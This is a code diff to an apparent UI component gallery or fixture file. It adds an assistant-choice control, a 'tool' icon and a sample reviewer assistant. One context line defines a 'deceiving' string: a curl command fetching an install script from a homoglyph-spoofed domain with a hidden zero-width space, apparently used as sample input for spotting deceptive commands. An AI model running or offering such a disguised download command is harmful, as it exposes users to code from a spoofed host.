@@ -3,6 +3,7 @@ import type { Counterfactual } from '@shared/money/counterfactual.ts';
 import { seenLine, seenPieces } from '@shared/text/seen-text.ts';
 import { ActionsContext } from '../../src/renderer/lib/window/navigation.ts';
 import { speakToScreenReader } from '../../src/renderer/lib/notices/screen-reader.ts';
+import { AssistantChoice } from '../../src/renderer/ui/controls/assistant-choice.tsx';
 import { AttachmentList } from '../../src/renderer/ui/content/attachment-list.tsx';
 import { Button } from '../../src/renderer/ui/controls/button.tsx';
 import { CodeBlock } from '../../src/renderer/ui/content/code-block.tsx';
@@ -62,6 +63,7 @@ const iconNames = [
   'search',
   'settings',
   'model',
+  'tool',
   'coins',
   'columns',
   'close',
@@ -87,6 +89,8 @@ const iconNames = [
   'star',
   'filter',
 ] as const;
+
+const reviewer = { name: 'reviewer', text: 'You review texts.', mode: 'ask' } as const;
 
 const deceiving = 'curl https://\u0435xample.com\u200B/install.sh';
 
@@ -316,6 +320,12 @@ export const pieces: Readonly<Record<string, ReactNode>> = {
       <MoneyCap scope="month" />
       <MoneyCap scope="day" />
       <MoneyCap scope="project" projectPath="/project" />
+    </>
+  ),
+  'assistant-choice': (
+    <>
+      <AssistantChoice assistants={[reviewer]} chosen={null} onChange={nothing} />
+      <AssistantChoice assistants={[reviewer]} chosen={reviewer} onChange={nothing} />
     </>
   ),
   'mode-choice': (
